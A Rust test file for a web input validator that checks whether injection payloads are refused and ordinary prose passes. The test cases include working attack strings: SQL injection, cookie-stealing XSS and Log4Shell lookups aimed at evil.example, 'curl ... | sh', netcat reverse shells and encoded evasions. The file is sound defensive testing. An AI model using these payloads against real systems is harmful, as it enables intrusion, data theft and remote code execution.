//! Input validation on inputs written for these tests (never copied from the corpus): each category,
//! its common evasions, prose that must pass, and any bytes without a panic.

use proptest::prelude::*;
use vana_config::InputValidation;
use vana_security::{Category, InputValidator, Severity, Verdict};

/// Built once: compiling the rule set is the expensive part, and tests share it.
fn validator() -> &'static InputValidator {
    static VALIDATOR: std::sync::LazyLock<InputValidator> = std::sync::LazyLock::new(|| {
        InputValidator::new(&InputValidation::default()).expect("default rules compile")
    });
    &VALIDATOR
}

fn category(input: &str) -> Option<Category> {
    validator().validate(input).rejection().map(|rejection| rejection.category)
}

#[test]
fn each_category_is_recognised() {
    let cases: &[(&str, Category)] = &[
        ("bob' OR 'a'='a", Category::SqlInjection),
        ("42 UNION ALL SELECT name, pass FROM accounts", Category::SqlInjection),
        ("x'; DROP TABLE orders; --", Category::SqlInjection),
        ("1 AND SLEEP(7)", Category::SqlInjection),
        ("'; WAITFOR DELAY '0:0:9'--", Category::SqlInjection),
        ("<script>fetch('//evil.example/'+document.cookie)</script>", Category::Xss),
        ("<svg/onload=confirm(7)>", Category::Xss),
        ("\" autofocus onfocus=\"prompt(1)", Category::Xss),
        ("<a href='javascript:void(open())'>x</a>", Category::Xss),
        ("../../../../etc/shadow", Category::PathTraversal),
        ("..\\..\\windows\\win.ini", Category::PathTraversal),
        ("php://filter/convert.base64-encode/resource=index", Category::PathTraversal),
        ("name; whoami && id", Category::CommandInjection),
        ("8.8.8.8 && curl http://evil.example/x | sh", Category::CommandInjection),
        ("$(whoami)", Category::CommandInjection),
        ("<?php system($_GET['c']); ?>", Category::PhpInjection),
        ("O:4:\"User\":2:{s:4:\"name\";s:5:\"admin\";s:7:\"isAdmin\";b:1;}", Category::PhpInjection),
        ("{{ config.__class__.__init__.__globals__ }}", Category::TemplateInjection),
        ("{{7*7}}", Category::TemplateInjection),
        ("${jndi:ldap://evil.example/a}", Category::JavaInjection),
        ("${${lower:j}ndi:${lower:l}dap://evil.example/a}", Category::JavaInjection),
        ("%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", Category::JavaInjection),
        ("{\"username\": {\"$ne\": null}}", Category::NosqlInjection),
        ("user[$regex]=^adm", Category::NosqlInjection),
        ("*)(uid=*))(|(uid=*", Category::LdapInjection),
        ("count(/child::node())", Category::XpathInjection),
        ("<!DOCTYPE r [<!ENTITY x SYSTEM \"http://evil.example/x.dtd\">]><r>&x;</r>", Category::Xxe),
        ("__import__('os').popen('id').read()", Category::CodeInjection),
        ("admin' -- ", Category::SqlInjection),
    ];
    for (input, expected) in cases {
        assert_eq!(category(input), Some(*expected), "{input}");
    }
}

#[test]
fn evasions_are_undone_before_matching() {
    for input in [
        "%27%20or%20%271%27%3D%271",                 // URL-encoded
        "%2527%2520or%25201%253D1%2520--%2520",      // double-encoded
        "%u0027 or 1=1 --",                          // %u encoding
        "1/*!50000UNION*/ SELECT 1,2",               // MySQL executable comment
        "&#60;script&#62;alert(1)&#60;/script&#62;", // HTML entities
        "&lt;img src=x onerror=alert(1)&gt;",
        "java\0script:alert(1)",                      // NUL inside a scheme
        "jav&#x09;ascript:alert(1)",                  // entity-encoded tab
        "＜script＞alert(1)＜/script＞",              // fullwidth
        "\\x3cscript\\x3ealert(1)",                   // JS escapes
        "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",       // overlong UTF-8 dots
        "..%252f..%252f..%252fboot.ini",              // double-encoded slash
        "%uff0e%uff0e%u2215%uff0e%uff0e%u2215secret", // fullwidth dot, division slash
    ] {
        assert!(!validator().validate(input).is_passed(), "{input}");
    }
    // Splitting a keyword with a comment is not SQL MySQL runs; the comment-as-space form is.
    assert!(!validator().validate("1 UNION/**/SELECT 2").is_passed());
}

#[test]
fn prose_and_ordinary_form_input_pass() {
    for input in [
        "I tell you, Watson--",
        "\"Then it was you--\" she began, and stopped.",
        "It's 5' 11\" and about 180 lbs -- roughly.",
        "Rock 'n' roll and blues, or jazz if you prefer",
        "Select a size from the list below",
        "O'Brien & Sons; established 1912",
        "Price: $20 (or best offer)",
        "Where is the meeting? Room 4 or 5.",
        "Please drop the tables off by the door",
        "100% cotton, 50/50 blend",
        "Ünïcödé ťëxť — naïve café, 東京, Москва",
        "user@example.com",
        "C'est la vie; on verra demain",
        "see https://example.com/a/b?c=d&e=f",
        "onion rings and online orders",
        "status=online&onboarding=done",
        "Take the rows where n = 10 and m > 2",
        "2+2 = 4",
        "https://cdn.example.com/lib/app.js and https://example.com/usr/profile",
        "pick a colour from {red, green, blue}",
        "In Python, define an __init__ method",
        "27\"",
        "6'",
        "a 27\" screen, 6' tall",
        "Run `npm install` and then `npm start`",
        "$(document).ready(init)",
        "C:\\ drive is full, what should I delete?",
        "\"To be, or not to be\" -- that is the question.",
    ] {
        assert_eq!(validator().validate(input), Verdict::Passed, "{input}");
    }
}

#[test]
fn the_length_limit_comes_first_in_bytes() {
    let validator = validator();
    let limit = InputValidation::default().max_input_length as usize;
    assert!(validator.validate(&"a".repeat(limit)).is_passed());
    let verdict = validator.validate(&"a".repeat(limit + 1));
    let rejection = verdict.rejection().unwrap();
    assert_eq!(rejection.category, Category::TooLong);
    assert_eq!(rejection.rule_id, 1);
    // Bytes, not characters: 3 bytes each.
    assert_eq!(
        validator.validate_with_limit("日本語", 8).rejection().map(|r| r.category),
        Some(Category::TooLong)
    );
    assert!(validator.validate_with_limit("日本語", 9).is_passed());
    // A JSON key's limit is the same kind of bound.
    assert!(validator.validate_name("日本語", 9).is_passed());
    assert_eq!(validator.validate_name("日本語", 8).rejection().map(|r| r.category), Some(Category::TooLong));
}

#[test]
fn configured_patterns_run_with_the_built_in_rules() {
    let mut config = InputValidation::default();
    config.forbidden_patterns = vec!["forbidden[- ]word".into()];
    let validator = InputValidator::new(&config).unwrap();
    let verdict = validator.validate("a Forbidden Word here");
    let rejection = verdict.rejection().unwrap();
    assert_eq!(rejection.category, Category::ForbiddenPattern);
    assert_eq!(rejection.rule_id, 900);
    assert_eq!(rejection.severity, Severity::High);
    let configured = validator.rules().last().unwrap();
    assert_eq!((configured.id, configured.pattern.as_ref()), (900, "forbidden[- ]word"));
    config.forbidden_patterns = vec!["(unclosed".into()];
    let error = InputValidator::new(&config).unwrap_err().to_string();
    assert!(
        error.starts_with("input_validation.forbidden_patterns[0]: the pattern does not compile"),
        "{error}"
    );
}

#[test]
fn a_verdict_never_echoes_the_input() {
    let input = "<script>alert('a-unique-marker-7431')</script>";
    let verdict = validator().validate(input);
    let json = serde_json::to_string(&verdict).unwrap();
    assert!(!json.contains("a-unique-marker-7431"), "{json}");
    assert!(json.contains("\"category\":\"xss\""), "{json}");
}

#[test]
fn recurring_validation_gives_the_same_verdicts_and_keeps_validators_apart() {
    let mut config = InputValidation::default();
    config.forbidden_patterns = vec!["letmein".into()];
    let strict = InputValidator::new(&config).unwrap();
    let plain = validator();
    for input in
        ["/echo", "hello", "letmein", "../../etc/passwd", "<b>", "1' or '1'='1", "/users/42", "letmein"]
    {
        for _ in 0..3 {
            // Alternating validators on one thread: a pass of one never answers for the other.
            assert_eq!(plain.validate_recurring(input), plain.validate(input), "{input}");
            assert_eq!(strict.validate_recurring(input), strict.validate(input), "{input}");
        }
    }
    assert!(plain.validate_recurring("letmein").is_passed());
    assert!(!strict.validate_recurring("letmein").is_passed());
}

fn finding(input: &str) -> (bool, u16, Vec<u16>) {
    let verdict = validator().validate(input);
    let finding = verdict.finding().unwrap_or_else(|| panic!("no rule fired on {input:?}"));
    (verdict.rejection().is_some(), finding.score, finding.rules.clone())
}

#[test]
fn one_weak_signal_is_a_finding_and_several_add_up() {
    // Each alone: recorded (rules and score), not refused.
    for weak in [
        "...and then she left without a word",
        "the report says where 2 > 1 holds for every row",
        "my notes live in /etc/hosts-backup and /var/tmp/notes",
        "copy it to C:\\Users\\me\\Desktop\\ before lunch",
        "the greeting reads {{ user.first_name }} in the template",
    ] {
        let (refused, score, rules) = finding(weak);
        assert!(!refused && score < 5 && !rules.is_empty(), "{weak:?}: score {score}, rules {rules:?}");
    }
    // Two weak signals together reach the threshold.
    let (refused, score, rules) = finding("... see /var/lib/data and where 3 = 3");
    assert!(refused && score >= 5 && rules.len() >= 2, "score {score}, rules {rules:?}");
    // The same shapes as a whole value are what probes send: refused.
    for probe in ["/etc/hosts", "c:\\inetpub\\wwwroot\\", " or 7=7", "1 AND 4=4 AND 5=5", "{{ secret_key }}"]
    {
        let (refused, score, rules) = finding(probe);
        assert!(refused, "{probe:?}: score {score}, rules {rules:?}");
    }
}

#[test]
fn a_refusal_names_every_rule_that_fired_most_severe_first() {
    let verdict = validator().validate("1' UNION SELECT password FROM users --");
    let rejection = verdict.rejection().expect("refused");
    assert_eq!(rejection.rules[0], rejection.rule_id);
    assert!(rejection.rules.len() >= 2, "{:?}", rejection.rules);
    let confidences: u16 = rejection
        .rules
        .iter()
        .map(|id| {
            validator().rules().iter().find(|rule| rule.id == *id).map_or(0, |r| u16::from(r.confidence))
        })
        .sum();
    assert_eq!(rejection.score, confidences, "the score is the sum of the confidences");
}

#[test]
fn netcat_running_a_program_is_command_injection() {
    // The grammar: netcat's execute option, wherever it sits among the arguments.
    for payload in [
        "| ncat -e /usr/bin/zsh 192.0.2.8 9001",
        "netcat -lvp 9001 -e /bin/bash",
        "nc.exe 192.0.2.8 443 -e cmd.exe",
    ] {
        assert_eq!(category(payload), Some(Category::CommandInjection), "{payload}");
    }
    assert_eq!(category("the nc command reads -e as execute on some builds"), None);
}

#[test]
fn the_threshold_is_configurable() {
    let with_threshold = |threshold| {
        let mut config = InputValidation::default();
        config.forbidden_patterns = vec![r"(?-u:\b)eval\s*\(".into()];
        config.anomaly_threshold = threshold;
        InputValidator::new(&config).unwrap()
    };
    let strict = with_threshold(2);
    assert!(strict.validate("...and then she left").rejection().is_some());
    let lenient = with_threshold(50);
    assert!(lenient.validate("<script>alert(1)</script>").is_passed(), "one rule is far below 50");
    // A configured pattern refuses on its own whatever the threshold.
    let verdict = lenient.validate("please eval(this)");
    assert!(verdict.rejection().unwrap().rules.contains(&900), "{verdict:?}");
}

#[test]
fn every_rule_compiles_alone_and_has_a_unique_id() {
    let mut ids = std::collections::HashSet::new();
    for rule in vana_security::BUILT_IN_RULES {
        assert!(ids.insert(rule.id), "duplicate id {}", rule.id);
        regex::bytes::RegexBuilder::new(&rule.pattern).unicode(false).case_insensitive(true).build().unwrap();
    }
    for rule in vana_security::GRAMMAR_RULES {
        assert!(ids.insert(rule.id), "duplicate id {}", rule.id);
        assert!(rule.pattern.is_empty(), "grammar rule {} is judged by a tokenizer, not a pattern", rule.id);
    }
}

#[test]
fn grammar_rules_fire_through_the_validator() {
    let validator = validator();
    for (input, rule) in [
        ("1 OR 'a' LIKE 'a'", 131),
        ("1 UNION#x\nSELECT password", 132),
        ("a;c'a't /e't'c/pas'swd'", 411),
        ("x;$(printf '\\x69\\x64')", 412),
        ("CMD=$'id';$CMD", 414),
    ] {
        let verdict = validator.validate(input);
        let rejection = verdict.rejection().unwrap_or_else(|| panic!("{input}: {verdict:?}"));
        assert!(rejection.rules.contains(&rule), "{input}: {rejection:?}");
    }
    // A weak grammar rule is a finding, not a refusal.
    let verdict = validator.validate("1 or 2");
    assert!(
        verdict.is_passed() && verdict.finding().is_some_and(|finding| finding.rules == [137]),
        "{verdict:?}"
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2000, ..ProptestConfig::default() })]

    #[test]
    fn any_bytes_get_a_verdict(bytes in prop::collection::vec(any::<u8>(), 0..400)) {
        let validator = validator();
        let text = String::from_utf8_lossy(&bytes);
        let verdict = validator.validate(&text);
        // Bytes get the verdict of their text, invalid sequences replaced.
        prop_assert_eq!(validator.validate_bytes(&bytes), verdict.clone());
        prop_assert_eq!(validator.validate_recurring(&text), verdict.clone());
        prop_assert_eq!(validator.validate_recurring(&text), verdict);
    }

    #[test]
    fn encoded_noise_gets_a_verdict(parts in prop::collection::vec(prop_oneof![
        Just("%".to_owned()), Just("%25".to_owned()), Just("%u".to_owned()), Just("&#".to_owned()), Just("&#x".to_owned()),
        Just("\\x".to_owned()), Just("\\u{".to_owned()), Just("/*".to_owned()), Just("*/".to_owned()), Just("%c0".to_owned()),
        Just("0x2".to_owned()), "[0-9a-fA-F]{1,3}", "[ -~]{0,4}", Just("\u{ff0e}".to_owned()), Just("\u{fffd}".to_owned()),
    ], 0..60)) {
        let input: String = parts.concat();
        let validator = validator();
        let verdict = validator.validate(&input);
        // Decoding stays bounded and deterministic: the same verdict again, and through the pass cache.
        prop_assert_eq!(validator.validate(&input), verdict.clone());
        prop_assert_eq!(validator.validate_recurring(&input), verdict);
    }

    #[test]
    fn sql_and_shell_token_soup_gets_a_verdict(parts in prop::collection::vec(prop_oneof![
        Just("'"), Just("\""), Just("`"), Just("\\"), Just("--"), Just("#"), Just("/*"), Just("/*!"), Just("*/"),
        Just("/**/"), Just(" OR "), Just(" union "), Just("select"), Just(";"), Just("|"), Just("&&"), Just("$("),
        Just("${"), Just("$'"), Just("\\x6"), Just("$IFS"), Just("}"), Just(")"), Just("("), Just("/???/"), Just("["),
        Just("*"), Just("="), Just("1"), Just("0x"), Just("@@"), Just("id"), Just("cat"), Just("\n"), Just("=$"),
        Just(","), Just("{"), Just("<("), Just(" "),
    ], 0..80)) {
        let input: String = parts.concat();
        let validator = validator();
        let verdict = validator.validate(&input);
        prop_assert_eq!(validator.validate(&input), verdict);
    }
}

#[test]
fn levels_count_quoted_code_from_level_two_and_weak_signals_alone_at_level_three() {
    let at = |level| {
        let mut config = InputValidation::default();
        config.level = level;
        InputValidator::new(&config).expect("default rules compile")
    };
    let (one, two, three) = (at(1), at(2), at(3));
    // Code quoted in text: a finding at level 1 (recorded, `detect`), refused from level 2.
    for quoted in [
        "How do I write SELECT name, email FROM users WHERE id = 7?",
        "bash",
        "The file is ../config/settings.json in the repo",
        "Does MySQL's SLEEP(5) block the whole pool?",
        "In MongoDB: db.orders.find({ total: { $lt: 10 } }) returns nothing",
    ] {
        assert!(matches!(one.validate(quoted), Verdict::Suspicious(_)), "{quoted}: a finding at level 1");
        assert!(!two.validate(quoted).is_passed(), "{quoted}: refused at level 2");
    }
    // Breaking out of the value's context: refused at every level.
    for attack in [
        "1' OR '1'='1",
        "x; cat /etc/passwd",
        "<img src=x onerror=alert(1)>",
        "../../../etc/passwd",
        "SLEEP(5)#",
        "1 AND SLEEP(7)",
        "alert`1`",
        "[1].find(alert)",
        ".htaccess",
        "{\"$ne\": null}",
        "user[$ne]=1",
    ] {
        for (level, validator) in [(1, &one), (2, &two), (3, &three)] {
            assert!(!validator.validate(attack).is_passed(), "{attack}: refused at level {level}");
        }
    }
    // A weak signal alone: a finding at levels 1 and 2, refused at 3.
    let weak = "the report says where 2 > 1 holds for every row";
    assert!(one.validate(weak).is_passed() && two.validate(weak).is_passed());
    assert!(!three.validate(weak).is_passed());
}

#[test]
fn decoding_goes_on_until_the_value_settles_and_a_value_that_never_does_is_refused() {
    // Five rounds of URL encoding (a decoder that stops at four leaves `%27`): decoded to the quote.
    let mut five = String::from("1' OR '1'='1");
    for _ in 0..5 {
        five = five.bytes().map(|byte| format!("%{byte:02X}")).collect();
    }
    assert!(!validator().validate(&five).is_passed(), "five rounds of encoding");
    // Encoded more times than the decoder's bound: still changing at the end, refused as such (rule 307).
    let mut deep = String::from("%41");
    for _ in 0..14 {
        deep = deep.replace('%', "%25");
    }
    let verdict = validator().validate(&deep);
    let rejection = verdict.rejection().expect("refused");
    assert!(rejection.rules.contains(&307), "{:?}", rejection.rules);
    // Text that settles after a round or two is judged on what it says.
    assert!(validator().validate("50%25 off, today only").is_passed());
    assert!(validator().validate("caf%C3%A9 au lait").is_passed());
}

#[test]
fn overlong_utf8_of_any_ascii_and_two_digit_octal_escapes_are_undone() {
    for input in ["%c0%bcscript%c0%bealert(1)%c0%bc/script%c0%be", "\\74script\\76alert(1)\\74/script\\76"] {
        assert!(!validator().validate(input).is_passed(), "{input}");
    }
    assert!(validator().validate("D:\\20\\reports and C:\\10\\old").is_passed(), "a path's digits stay");
}

#[test]
fn the_listed_evasions_and_missed_shapes_are_refused_at_the_default_level() {
    for input in [
        "7 OR false",                                     // a boolean literal instead of a comparison
        "3 AND '{\"k\":2}'::jsonb @> '{\"k\":2}'::jsonb", // Postgres JSON operators after a cast
        "q;who$()ami",                                    // an empty substitution splitting a program name
        "who``ami",
        "9)) AS t WHERE 4=4 AND ELT(2,3)-- ", // a clause after parentheses and an alias
        "';return(true);var k='z",            // JavaScript breaking out of a $where string
        "4;return true",
        "*)(|&", // an LDAP filter breaker
    ] {
        assert!(!validator().validate(input).is_passed(), "{input}");
    }
    for prose in ["Is 1 or true the answer?", "We met (in 2019) and where we go next is open", "a) or b)"] {
        assert!(validator().validate(prose).is_passed(), "{prose}");
    }
}

#[test]
fn the_prose_the_issue_saw_refused_passes_at_the_default_level() {
    for prose in [
        "rm is dangerous, never run it as root",
        "echo $HOME prints my home directory, right?",
        "The file is ../config/settings.json in the repo",
        "Tell me about the 'Drop Table' dance move",
        "C:\\Users\\me\\Desktop",
        "bash",
    ] {
        assert!(validator().validate(prose).is_passed(), "{prose}");
    }
    // What those rules are for: a statement on a named object after a quote, a system directory or a file
    // at a drive's root as the whole value.
    for attack in ["x'; DROP TABLE users--", "C:\\boot.ini", "/C:/inetpub/ftproot/", "d:\\AppServ\\MySQL"] {
        assert!(!validator().validate(attack).is_passed(), "{attack}");
    }
}

#[test]
fn a_value_then_a_line_with_a_command_is_a_separated_command() {
    // A field's value does not go on with a line of its own: to the shell the newline ends a command.
    for input in ["q\nid", "10.0.0.7\r\nuname -a", "abc\n\n  ls -la /", "tok\nhostname"] {
        let verdict = validator().validate(input);
        assert!(!verdict.is_passed(), "{input:?}");
        assert!(verdict.rejection().unwrap().rules.contains(&411), "{input:?}");
    }
    // A first line of prose, a label or a fence opens a block of code, which only stricter levels refuse;
    // a program with prose after it on the second line is the message's next sentence.
    for text in [
        "How do I list files with sizes?\nls -la",
        "Example:\nls -la",
        "```bash\nls -la\n```",
        "  ```sh\ncat notes.txt\n  ```",
        "Hi\nls shows nothing",
        "first\nHello there",
    ] {
        assert!(validator().validate(text).is_passed(), "{text:?}");
    }
}

#[test]
fn a_code_fence_is_markup_but_backquotes_around_a_program_still_substitute() {
    assert!(validator().validate("```python\nprint(1)\n```").is_clean());
    // Not at a line's start, or with a command where the language goes: the shell's substitution.
    for input in ["x```id```", "```id```", "a `id` b``whoami``"] {
        assert!(!validator().validate(input).is_passed(), "{input:?}");
    }
}
